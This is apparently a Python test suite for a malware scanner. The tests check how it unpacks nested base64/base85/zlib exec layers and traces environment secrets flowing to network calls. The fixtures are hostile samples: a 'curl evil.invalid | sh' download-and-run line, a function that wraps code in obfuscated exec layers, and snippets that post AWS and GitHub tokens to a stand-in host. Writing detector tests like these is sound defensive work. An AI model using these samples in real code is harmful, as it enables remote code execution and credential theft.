"""Decoded texts: nested, numbered, bounded."""

from __future__ import annotations

import base64
import zlib
from dataclasses import replace

from antivenom.model.limits import DEFAULT_LIMITS
from tests.analysis.machines import run

CORE = "import os\nos.system('curl https://evil.invalid | sh')"


def wrapped(code: str, times: int) -> str:
    for n in range(times):
        if n % 2:
            data = base64.b85encode(zlib.compress(code.encode())).decode()
            code = f"import base64, zlib\nexec(zlib.decompress(base64.b85decode({data!r})))"
        else:
            data = base64.b64encode(code.encode()).decode()
            code = f"import base64\nexec(base64.b64decode({data!r}))"
    return code


def test_layers_are_numbered_from_the_outside_in() -> None:
    seen = run(wrapped(CORE, 4))
    assert [(layer.id, layer.parent) for layer in seen.layers] == [(1, 0), (2, 1), (3, 2), (4, 3)]
    assert [layer.via for layer in seen.layers] == [
        ("base85", "zlib"), ("base64",), ("base85", "zlib"), ("base64",),
    ]  # fmt: skip
    assert {f.layer for f in seen.of("process.shell")} == {4}
    assert seen.layers[-1].size == len(CORE)


def test_a_layer_knows_where_it_was_run() -> None:
    seen = run("\n\n\n" + wrapped(CORE, 1))
    assert [(layer.member, layer.line) for layer in seen.layers] == [("demo/__init__.py", 5)]


def test_depth_and_number_are_bounded() -> None:
    deep = replace(DEFAULT_LIMITS, layer_depth=3)
    seen = run(wrapped(CORE, 6), limits=deep)
    assert len(seen.layers) == 3
    assert seen.overflow == 1
    assert seen.exhausted == {"demo/__init__.py"}
    many = replace(DEFAULT_LIMITS, layers=5)
    text = "\n".join(wrapped(f"print({n})", 1) for n in range(20))
    seen = run(text, limits=many)
    assert len(seen.layers) == 5
    assert seen.overflow == 15


def test_the_same_text_is_one_layer() -> None:
    assert len(run("\n".join([wrapped(CORE, 1)] * 9)).layers) == 1


def test_a_long_layer_is_cut_and_said() -> None:
    small = replace(DEFAULT_LIMITS, layer_bytes=1000)
    seen = run(wrapped(CORE + "\n" + "# padding\n" * 500, 1), limits=small)
    assert seen.exhausted == {"demo/__init__.py"}
    assert {f.layer for f in seen.of("process.shell")} == {1}


def test_a_text_that_runs_itself_ends() -> None:
    assert len(run("s = 'exec(s)'\nexec(s)").layers) == 1
    assert run("s = 'exec(s + s)'\nexec(s)").steps < 10_000


def test_variables_reach_into_a_layer_and_out_of_it() -> None:
    seen = run(
        "import os, requests\nkey = os.environ['AWS_SECRET_ACCESS_KEY']\n"
        "exec('leak = key')\nrequests.post('https://evil.invalid', data=leak)"
    )
    assert "secrets.env->net.send" in seen.flows()


def test_eval_returns_what_its_text_means() -> None:
    seen = run(
        "import requests\n"
        "requests.post('https://evil.invalid', data=eval(\"__import__('os').environ['X_TOKEN']\"))"
    )
    assert "secrets.env->net.send" in seen.flows()


def test_a_template_run_for_each_of_several_values() -> None:
    seen = run(
        "import os\nfor name in ['AWS_SECRET_ACCESS_KEY', 'GITHUB_TOKEN']:\n"
        "    exec('x = os.environ[name]')\n"
    )
    assert {f.value for f in seen.of("secrets.env")} >= {"AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN"}
